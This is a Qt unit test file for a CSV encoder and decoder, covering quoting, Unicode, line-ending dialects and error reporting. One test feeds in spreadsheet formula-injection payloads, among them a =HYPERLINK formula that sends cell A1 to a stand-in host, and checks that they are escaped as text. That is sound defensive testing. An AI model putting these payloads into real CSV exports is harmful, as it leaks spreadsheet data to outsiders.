#include "core/Csv.h"

#include <QtTest>

class CsvTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void whatIsWrittenReadsBackTheSame()
    {
        const QList<QStringList> records = {
            {QStringLiteral("Student"), QStringLiteral("Notes")},
            {QStringLiteral("O'Brien, D'Arcy \"Dee\""), QStringLiteral("line one\nline two\r\nline three")},
            {QStringLiteral("Zoë Ångström"), QStringLiteral("Ünïcødé, 王小明, Ольга, محمد")},
            {QString(), QStringLiteral(" padded ")},
            {QStringLiteral("\"\""), QStringLiteral(",")},
        };
        const QByteArray bytes = csv::encode(records);
        QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
        QVERIFY(bytes.endsWith("\r\n"));
        // Quoted only where needed, quotes doubled.
        QVERIFY(bytes.contains("\"O'Brien, D'Arcy \"\"Dee\"\"\""));
        QVERIFY(bytes.mid(3).startsWith("Student,Notes\r\n"));
        const csv::Parsed parsed = csv::decode(bytes);
        QVERIFY2(parsed.error.isEmpty(), qPrintable(parsed.error));
        QCOMPARE(parsed.records, records);
    }

    void formulasAreWrittenAsTextAndNumbersStayNumbers()
    {
        const QStringList names
            = {QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"x\")"), QStringLiteral("+SUM(1;2)"),
                QStringLiteral("@A1"), QStringLiteral("-2+3"), QStringLiteral("\tcmd"), QStringLiteral("\r=1")};
        for (const QString& name : names) {
            const csv::Parsed parsed = csv::decode(csv::encode({{name}}));
            QCOMPARE(parsed.records, QList<QStringList>({{QLatin1Char('\'') + name}}));
        }
        const csv::Parsed numbers = csv::decode(csv::encode({{QStringLiteral("-2"), QStringLiteral("+3.5"),
            QStringLiteral("90.0"), QStringLiteral("O'Brien"), QStringLiteral("Anne-Marie")}}));
        QCOMPARE(numbers.records.first(),
            QStringList({QStringLiteral("-2"), QStringLiteral("+3.5"), QStringLiteral("90.0"),
                QStringLiteral("O'Brien"), QStringLiteral("Anne-Marie")}));
    }

    void spreadsheetDialectsAreRead()
    {
        // No byte-order mark, bare LF and CR line ends, a blank line, a last record without
        // its line end, an empty last field.
        const csv::Parsed parsed = csv::decode("a,b\n\nc,\"d\ne\"\rf,\n\"g\"\"h\",i");
        QVERIFY(parsed.error.isEmpty());
        QCOMPARE(parsed.records, QList<QStringList>({{"a", "b"}, {"c", "d\ne"}, {"f", ""}, {"g\"h", "i"}}));
    }

    void brokenFilesSayWhere()
    {
        const csv::Parsed open = csv::decode("a,b\r\nc,\"never\r\nclosed");
        QCOMPARE(open.errorLine, 2);
        QVERIFY(!open.error.isEmpty());
        const csv::Parsed latin1 = csv::decode("Zo\xEB,1\r\n");
        QVERIFY(!latin1.error.isEmpty());
        QVERIFY(latin1.records.isEmpty());
    }
};

QTEST_GUILESS_MAIN(CsvTest)
#include "tst_csv.moc"
